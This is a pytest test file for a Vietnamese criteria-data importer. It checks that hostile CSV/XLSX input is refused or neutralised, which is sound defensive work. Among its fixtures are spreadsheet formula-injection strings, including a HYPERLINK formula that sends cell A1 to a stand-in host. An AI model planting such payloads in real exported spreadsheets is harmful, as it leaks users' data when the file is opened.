"""What a hostile-input probe tried on the reference importer (issue #11), on real CSV/XLSX bytes and real
stores: absurd maxima, numbers whose decimal mark is a guess, full-width and zero-padded numbering, office
names that would make formula codes, names of a whole page, a first data row taken for the numbering row,
and the wording of the encoding, size and summary messages. Bad input changes nothing in the store."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest

from analytics.cli import main
from analytics.importing.formats import is_numbering_row
from analytics.importing.pipeline import analyze
from analytics.importing.reference import (
    NAME_MAX_CHARS,
    ReferenceOptions,
    analyze_and_commit_reference,
    analyze_reference,
)
from analytics.importing.reference_codes import criterion_code, derived_code
from analytics.reports.workbook import analytics_workbook
from analytics.store import connect, init_empty_store
from tests.conftest import snapshot, snapshot_of

HEADER = ["STT", "Lĩnh vực/Tiêu chí/Tiêu chí thành phần", "Điểm tối đa", "Cơ quan chủ trì"]
TITLE = [["PHỤ LỤC"], ["BỘ TIÊU CHÍ XÁC ĐỊNH CHỈ SỐ CCHC CẤP HUYỆN"], []]
DISTRICT_2026 = ReferenceOptions(level="district", year_from=2026, code="HUYEN-2026")
HOSTILE = Path(__file__).resolve().parent / "data" / "hostile"
CODE_CHARS = re.compile(r"^[A-Z0-9_]+$")


def csv_bytes(rows: list[list], separator: str = ",") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=separator, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


def annex_csv(rows: list[list], title: list[list] = TITLE) -> bytes:
    """An annex as a CSV saved from Excel: title lines, a blank line, the header (line 4), the rows."""
    return csv_bytes(title + [HEADER] + rows)


def annex_xlsx(rows: list[list]) -> bytes:
    wb = openpyxl.Workbook()
    for row in TITLE + [HEADER] + rows:
        wb.active.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


@pytest.fixture
def empty_con(tmp_path):
    """A store holding Cao Bằng's unit register and nothing else (init --empty)."""
    path = tmp_path / "empty.duckdb"
    init_empty_store(path, "04")
    con = connect(path)
    yield con
    con.close()


def load(con, kind: str, rows_or_bytes, options: ReferenceOptions | None = None, name: str = "tep.csv"):
    data = rows_or_bytes if isinstance(rows_or_bytes, bytes) else annex_csv(rows_or_bytes)
    return analyze_and_commit_reference(con, kind, name, data, options or DISTRICT_2026, "pytest")


def errors_of(analysis, kind: str) -> list:
    return [p for p in analysis.errors if p.kind == kind]


# --- 1. maxima within a bound -------------------------------------------------------------------


@pytest.mark.parametrize(
    "maximum, kind, fragment",
    [
        (1e22, "out_of_range", "vượt giới hạn 1.000 điểm"),
        (1e308, "out_of_range", "vượt giới hạn 1.000 điểm"),
        (1000.5, "out_of_range", "Điểm tối đa 1.000,50 vượt giới hạn 1.000 điểm"),
        (2.005, "too_many_decimals", "Điểm tối đa 2.005 có quá 2 chữ số thập phân"),
    ],
)
def test_an_absurd_maximum_in_a_workbook_is_refused_by_the_cli_and_changes_nothing(
    demo_store, capsys, tmp_path, maximum, kind, fragment
):
    path = tmp_path / "phu-luc.xlsx"
    path.write_bytes(annex_xlsx([[1, "Lĩnh vực A", maximum], [2, "Lĩnh vực B", 50]]))
    before = snapshot_of(demo_store)
    args = ["import", str(path), "--kind", "criteria", "--level", "district", "--year-from", "2026"]
    code = main([*args, "--format", "json", "--db", str(demo_store)])
    result = json.loads(capsys.readouterr().out)
    assert code == 2 and result["batch_id"] is None
    messages = [p["message"] for p in result["problems"] if p["kind"] == kind]
    assert messages and "dòng 5, cột 'Điểm tối đa'" in messages[0] and fragment in messages[0], messages
    assert "từ trên 0 đến 1.000, nhiều nhất 2 chữ số thập phân" in messages[0]
    assert snapshot_of(demo_store) == before


def test_a_total_other_than_100_stays_a_warning_and_1000_points_is_allowed(empty_con):
    for maxima, total in (([50, 45], "95,00"), ([1000, 0.25], "1.000,25")):
        analysis = analyze_reference(
            empty_con, "criteria", "pl.xlsx", annex_xlsx([[1, "A", maxima[0]], [2, "B", maxima[1]]]), DISTRICT_2026
        )
        assert analysis.ok, [p.message for p in analysis.errors]
        warning = next(p for p in analysis.warnings if p.kind == "total_not_100")
        assert f"Tổng điểm tối đa các lĩnh vực là {total}" in warning.message


def test_a_bad_total_row_is_reported_not_raised(empty_con):
    rows = [["1", "A", "50"], ["2", "B", "50"], ["", "TỔNG ĐIỂM", "-100"]]
    analysis = analyze_reference(empty_con, "criteria", "pl.csv", annex_csv(rows), DISTRICT_2026)
    assert [(p.kind, p.row, p.column) for p in analysis.errors] == [("not_positive", 7, "Điểm tối đa")]


# --- 2. numbers: the results importer's rule, no guess ----------------------------------------


def indicators(values: list[str]) -> bytes:
    """An indicators file as Vietnamese Excel saves a CSV: semicolons, one indicator per value."""
    rows = [["Năm", "Mã đơn vị", "Chỉ số hoạt động", "Giá trị"]]
    rows += [["2022", "042", f"Chỉ số thử {i}", value] for i, value in enumerate(values, 1)]
    return csv_bytes(rows, ";")


def stored_values(con) -> list[float]:
    rows = con.execute("SELECT indicator, value FROM indicators WHERE year = 2022 ORDER BY indicator").fetchall()
    return [value for _, value in rows]


@pytest.mark.parametrize(
    "values, expected",
    [
        # The column shows a decimal comma (97,5): Vietnamese style, 1.000 is one thousand.
        (["97,5", "1.000", "1,5", "1.234,5"], [97.5, 1000.0, 1.5, 1234.5]),
        # The column shows a decimal point (97.5): 1.000 is one, 2.5 two and a half.
        (["97.5", "1.000", "2.5"], [97.5, 1.0, 2.5]),
        # Numbers that mean one thing whatever the mark: 1,5 (no thousands group), 1.234,5 (both marks).
        (["1,5", "1.234,5", "70"], [1.5, 1234.5, 70.0]),
    ],
)
def test_numbers_take_the_decimal_mark_their_column_shows(empty_con, values, expected):
    analysis, batch_id = load(empty_con, "indicators", indicators(values), ReferenceOptions())
    assert batch_id is not None, [p.message for p in analysis.errors]
    assert stored_values(empty_con) == expected


def test_a_number_whose_decimal_mark_the_file_does_not_show_is_an_error(empty_con):
    before = snapshot(empty_con)
    analysis, batch_id = load(empty_con, "indicators", indicators(["70", "1.000"]), ReferenceOptions())
    assert batch_id is None
    (problem,) = errors_of(analysis, "ambiguous_number")
    assert (problem.row, problem.column, problem.value) == (3, "Giá trị", "1.000")
    assert "'1.000' là 1000 nếu dấu '.' phân cách hàng nghìn (cách viết Việt Nam), là 1 nếu" in problem.message
    assert "Ghi 1000 (không dấu phân cách) hoặc 1 (dấu phẩy thập phân)" in problem.message
    assert snapshot(empty_con) == before


def test_the_probe_s_annex_column_of_mixed_marks(empty_con):
    """1.000, 1,5, 1.234,5 and 2.5 in one column: one comma and one point decimal show nothing, so 1.000
    is ambiguous; 1.234,5 is 1 234,5 (over the bound); 1,5 and 2.5 read as themselves."""
    rows = [["1", "A", "1.000"], ["2", "B", "1,5"], ["3", "C", "1.234,5"], ["4", "D", "2.5"]]
    analysis = analyze_reference(empty_con, "criteria", "pl.csv", annex_csv(rows), DISTRICT_2026)
    assert [(p.kind, p.row) for p in analysis.errors] == [("ambiguous_number", 5), ("out_of_range", 7)]
    assert "1.234,50 vượt giới hạn" in analysis.errors[1].message
    maxima = dict(zip(analysis.tree.code, analysis.tree.max_points))
    assert (maxima["2"], maxima["4"]) == (1.5, 2.5)


def test_the_results_importer_refuses_the_same_ambiguous_number(demo_con):
    rows = [
        ["Mã đơn vị", "Tên đơn vị", "Tổng điểm"],
        ["042", "Huyện Bảo Lâm", "73"],
        ["043", "Huyện Bảo Lạc", "81.000"],
    ]
    analysis = analyze(demo_con, "ket-qua-2021.csv", csv_bytes(rows))
    (problem,) = [p for p in analysis.problems if p.kind == "ambiguous_number"]
    assert (problem.row, problem.column) == (3, "Tổng điểm")
    assert "'81.000' là 81000 nếu dấu '.' phân cách hàng nghìn" in problem.message


# --- 3. numbering -----------------------------------------------------------------------------


def stored_codes(con, set_code: str = "HUYEN-2026") -> list[str]:
    rows = con.execute("SELECT code FROM criteria WHERE set_code = ? ORDER BY sort_order", [set_code]).fetchall()
    return [code for (code,) in rows]


@pytest.mark.parametrize(
    "numbers",
    [
        ["１", "１.１", "１.２", "２", "２.１"],  # full-width, as a Japanese or Chinese input method types them
        ["01", "01.01", "01.02", "02", "02.01"],
        ["01.", "1.01", "001.2", "2", "2.1"],
    ],
)
def test_full_width_and_zero_padded_numbers_give_the_plain_codes(empty_con, numbers):
    maxima = ["50", "20", "30", "50", "50"]
    rows = [[n, f"Mục {n}", m] for n, m in zip(numbers, maxima)]
    analysis, batch_id = load(empty_con, "criteria", rows)
    assert batch_id is not None, [p.message for p in analysis.errors]
    assert stored_codes(empty_con) == ["TOTAL", "1", "1.1", "1.2", "2", "2.1"]
    ownership = csv_bytes([["Mã tiêu chí", "Cơ quan chủ trì"], ["０１.０２", "Phòng Nội vụ"]])
    analysis, batch_id = load(empty_con, "ownership", ownership, ReferenceOptions(set_code="HUYEN-2026"))
    assert batch_id is not None, [p.message for p in analysis.errors]
    owner = "SELECT office_code FROM criteria WHERE set_code = 'HUYEN-2026' AND code = '1.2'"
    assert empty_con.execute(owner).fetchone() == ("NV",)


def test_full_width_roman_fields_restart_their_criteria(empty_con):
    rows = [["Ⅰ", "Lĩnh vực I", "40"], ["１", "a", "40"], ["Ⅱ", "Lĩnh vực II", "60"], ["０１", "b", "60"]]
    analysis, batch_id = load(empty_con, "criteria", rows)
    assert batch_id is not None, [p.message for p in analysis.errors]
    assert stored_codes(empty_con) == ["TOTAL", "1", "1.1", "2", "2.1"]


# --- 4. codes derived from hostile names ------------------------------------------------------


def test_codes_derived_from_hostile_office_names_are_letters_and_digits(empty_con):
    offices = ["=", "<B", "@x", "+1", "-", "Đội Đặc biệt", '=HYPERLINK("http://x")']
    rows = [[str(i), f"Lĩnh vực {i}", "10"] + [office] for i, office in enumerate(offices, 1)]
    analysis, batch_id = load(empty_con, "criteria", [r + [""] * (4 - len(r)) for r in rows])
    assert batch_id is not None, [p.message for p in analysis.errors]
    stored = dict(empty_con.execute("SELECT name, code FROM offices").fetchall())
    assert set(stored) == set(offices)  # names as given: shown escaped, neutralised in downloads
    assert (stored["="], stored["-"], stored["<B"], stored["@x"], stored["+1"]) == ("CQ01", "CQ02", "B", "X", "1")
    assert (stored["Đội Đặc biệt"], stored['=HYPERLINK("http://x")']) == ("DDB", "HHX")
    assert all(CODE_CHARS.match(code) for code in stored.values())


def test_a_band_code_derived_from_a_hostile_name_is_safe(demo_con):
    bands = csv_bytes([["Xếp loại", "Từ (%)"], ["=", "80"], ["@Khá", "50"], ["Yếu", "0"]])
    analysis, batch_id = load(demo_con, "bands", bands, ReferenceOptions(set_code="DEMO-XA-2020"))
    assert batch_id is not None, [p.message for p in analysis.errors]
    codes = demo_con.execute("SELECT code, name FROM bands WHERE set_code = 'DEMO-XA-2020' ORDER BY sort_order")
    assert codes.fetchall() == [("XL01", "="), ("KHA", "@Khá"), ("YEU", "Yếu")]


EVIL_OFFICE = '=HYPERLINK("http://example.invalid/?x="&A1,"Phòng Nội vụ")'
EVIL_CRITERION = "=1+1"


def test_formula_like_office_and_criterion_names_are_neutralised_in_every_download(demo_store, tmp_path, capsys):
    """The office renamed through the offices importer, a criterion renamed in the store: the Excel
    workbook and the criteria CSV of the CLI keep them as text (task files carry the office's code; no
    download holds a set's name, only its code)."""
    offices = tmp_path / "co-quan.csv"
    offices.write_bytes(csv_bytes([["Mã cơ quan", "Tên cơ quan"], ["NV", EVIL_OFFICE]]))
    assert main(["import", str(offices), "--kind", "offices", "--db", str(demo_store)]) == 0
    con = connect(demo_store)
    try:
        con.execute(
            "UPDATE criteria SET name = ? WHERE set_code = 'DEMO-HUYEN-2020' AND code = '1.1'", [EVIL_CRITERION]
        )
        book = openpyxl.load_workbook(io.BytesIO(analytics_workbook(con, 2020, "042")))
    finally:
        con.close()
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + EVIL_OFFICE in texts and "'" + EVIL_CRITERION in texts
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
    capsys.readouterr()
    assert main(["criteria", "--set", "DEMO-HUYEN-2020", "--format", "csv", "--db", str(demo_store)]) == 0
    listing = capsys.readouterr().out
    assert "'=1+1" in listing and "'=HYPERLINK(" in listing
    assert not re.search(r'(^|,)"?[=+@]', listing, flags=re.MULTILINE)


# --- 5. names within a length -----------------------------------------------------------------

LONG = "Tên rất dài " * 30  # 360 characters


@pytest.mark.parametrize(
    "kind, rows, options, place",
    [
        ("criteria", TITLE + [HEADER, ["1", LONG, "100"]], DISTRICT_2026, (5, HEADER[1])),
        ("criteria", TITLE + [HEADER, ["1", "A", "100", LONG]], DISTRICT_2026, (5, HEADER[3])),
        ("criteria", [["PHỤ LỤC"], ["BỘ TIÊU CHÍ " + LONG], [], HEADER, ["1", "A", "100"]], DISTRICT_2026, (2, "A")),
        ("offices", [["Mã cơ quan", "Tên cơ quan"], ["NV", LONG]], ReferenceOptions(), (2, "Tên cơ quan")),
        ("bands", [["Xếp loại", "Từ (%)"], [LONG, "0"]], ReferenceOptions(set_code="DEMO-XA-2020"), (2, "Xếp loại")),
        (
            "ownership",
            [["Mã tiêu chí", "Cơ quan chủ trì"], ["1.1", LONG]],
            ReferenceOptions(set_code="DEMO-HUYEN-2020"),
            (2, "Cơ quan chủ trì"),
        ),
        (
            "targets",
            [["Năm", "Đơn vị", "Chỉ tiêu", "So sánh", "Giá trị"], ["2024", "042", LONG, ">", "70"]],
            ReferenceOptions(),
            (2, "Chỉ tiêu"),
        ),
        (
            "indicators",
            [["Năm", "Đơn vị", "Chỉ số hoạt động", "Giá trị"], ["2024", "042", LONG, "70"]],
            ReferenceOptions(),
            (2, "Chỉ số hoạt động"),
        ),
        ("aliases", [["Tên gọi khác", "Mã đơn vị"], [LONG, "042"]], ReferenceOptions(), (2, "Tên gọi khác")),
    ],
)
def test_a_name_longer_than_the_cap_is_refused_at_its_row_and_column(demo_con, kind, rows, options, place):
    before = snapshot(demo_con)
    analysis, batch_id = load(demo_con, kind, csv_bytes(rows), options)
    assert batch_id is None
    (problem,) = errors_of(analysis, "too_long")
    assert (problem.row, problem.column) == place
    assert "Tên dài" in problem.message and problem.value
    assert f"vượt giới hạn {NAME_MAX_CHARS} ký tự" in problem.message
    assert snapshot(demo_con) == before


def test_a_set_name_given_on_the_command_line_is_capped_too(empty_con):
    options = ReferenceOptions(level="district", year_from=2026, name="Bộ " + LONG)
    analysis, batch_id = load(empty_con, "criteria", [["1", "A", "100"]], options)
    assert batch_id is None
    (problem,) = errors_of(analysis, "too_long")
    assert (
        problem.column == "Tên bộ (--name)" and f"Tên bộ tiêu chí: Tên dài {len(options.name)} ký tự" in problem.message
    )


def test_a_name_of_exactly_the_cap_loads(empty_con):
    name = "x" * NAME_MAX_CHARS
    analysis, batch_id = load(empty_con, "criteria", [["1", name, "100"]])
    assert batch_id is not None, [p.message for p in analysis.errors]
    assert empty_con.execute("SELECT count(*) FROM criteria WHERE name = ?", [name]).fetchone() == (1,)


# --- 6. the numbering row ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "cells, numbering",
    [
        (["(1)", "(2)", "(3)", "(4)"], True),
        (["1", "2", "3"], True),
        ([1.0, 2.0, 3.0, None, None], True),
        (["A", "B", "1", "2", "3"], True),
        (["(1)", "(2)", "(3)", "(4)=(2)+(3)"], True),
        (["1", "A", "50"], False),  # STT 1, name "A", maximum 50: the first data row
        (["1", "A", "50", "Phòng Nội vụ"], False),
        (["(1)", "(3)", "(2)"], False),
        (["2", "3", "4"], False),
        (["(1)", "(2)"], False),
        (["A", "1", "B"], False),
    ],
)
def test_a_numbering_row_is_column_numbers_in_sequence(cells, numbering):
    assert is_numbering_row(cells) is numbering


def test_a_first_data_row_1_a_50_is_data(empty_con):
    rows = [["(1)", "(2)", "(3)", "(4)"], ["1", "A", "50"], ["2", "B", "50"]]
    analysis, batch_id = load(empty_con, "criteria", rows)
    assert batch_id is not None, [p.message for p in analysis.errors]
    names = empty_con.execute("SELECT code, name, max_points FROM criteria WHERE code <> 'TOTAL' ORDER BY code")
    assert names.fetchall() == [("1", "A", 50.0), ("2", "B", 50.0)]


# --- 7. wording -------------------------------------------------------------------------------


def test_a_file_not_in_utf8_is_told_how_to_save_it_by_both_importers(demo_con):
    data = csv_bytes([["Mã đơn vị", "Tên đơn vị", "Tổng điểm"], ["042", "Huyện Bảo Lâm", "73,79"]])
    legacy = data.decode("utf-8-sig").encode("cp1258", errors="replace")  # "Mã đơn vị" -> "M? ??n v?"
    reference = analyze_reference(demo_con, "targets", "chi-tieu.csv", legacy)
    results = analyze(demo_con, "ket-qua.csv", legacy)
    for analysis in (reference, results):
        (problem,) = [p for p in analysis.errors if p.kind == "no_table"]
        assert "Tệp không ở bảng mã UTF-8 (đã thử đọc theo Windows-1258" in problem.message
        assert "Lưu thành…, kiểu «CSV UTF-8 (Comma delimited) (*.csv)»" in problem.message
    utf8 = analyze(demo_con, "ket-qua.csv", csv_bytes([["Cột lạ", "Khác"], ["1", "2"]]))
    assert "UTF-8" not in " ".join(p.message for p in utf8.errors)  # the hint only for such files


@pytest.mark.parametrize("kind", ["criteria", "bands", "targets"])
def test_an_oversized_or_bomb_file_names_no_other_page(demo_store, capsys, kind):
    before = snapshot_of(demo_store)
    for path, extra in ((HOSTILE / "bom-nen.xlsx", []), (HOSTILE / "hai-trieu-dinh-dang.xlsx", ["--max-mb", "0.1"])):
        args = ["import", str(path), "--kind", kind, "--set", "DEMO-XA-2020", *extra]
        assert main([*args, "--level", "district", "--format", "json", "--db", str(demo_store)]) == 2
        (problem,) = json.loads(capsys.readouterr().out)["problems"]
        assert problem["kind"] == "too_large" and "kết quả" not in problem["message"]
        assert "Chỉ giữ lại bảng cần nạp (xóa các trang tính, ô và dòng thừa)" in problem["message"]
    assert snapshot_of(demo_store) == before


def test_a_targets_file_with_a_bad_year_prints_no_empty_summary(demo_store, tmp_path, capsys):
    path = tmp_path / "chi-tieu.csv"
    path.write_bytes(
        csv_bytes([["Năm", "Đơn vị", "Chỉ tiêu", "So sánh", "Giá trị"], ["năm sau", "042", "Hạng", "<=", "5"]])
    )
    assert main(["import", str(path), "--kind", "targets", "--db", str(demo_store)]) == 2
    err = capsys.readouterr().err
    assert "(chỉ tiêu, SHA-256" in err and "): chưa đọc được." in err
    assert "năm ." not in err and "dòng 2, cột 'Năm': 'năm sau' không phải là số" in err


@pytest.mark.parametrize(
    "written, code",
    [
        ("０１.０２", "1.2"),
        ("01.02.", "1.2"),
        ("3.1", "3.1"),
        ("10.10", "10.10"),
        ("TOTAL", "TOTAL"),
        ("ＴＯＴＡＬ", "TOTAL"),
    ],
)
def test_a_criterion_code_as_written_in_an_ownership_file(written, code):
    assert criterion_code(written) == code


@pytest.mark.parametrize(
    "name, taken, code",
    [
        ("Phòng Tài chính - Kế hoạch", set(), "TCKH"),
        ("Văn phòng HĐND và UBND", set(), "VHU"),
        ("Đội Đặc biệt", {"DDB"}, "DDB2"),
        ("=", {"CQ01"}, "CQ02"),
        ("@SUM(A1)", set(), "SA"),
        ("Phòng", set(), "CQ01"),
    ],
)
def test_a_derived_code_is_initials_or_a_number(name, taken, code):
    assert derived_code(name, taken) == code
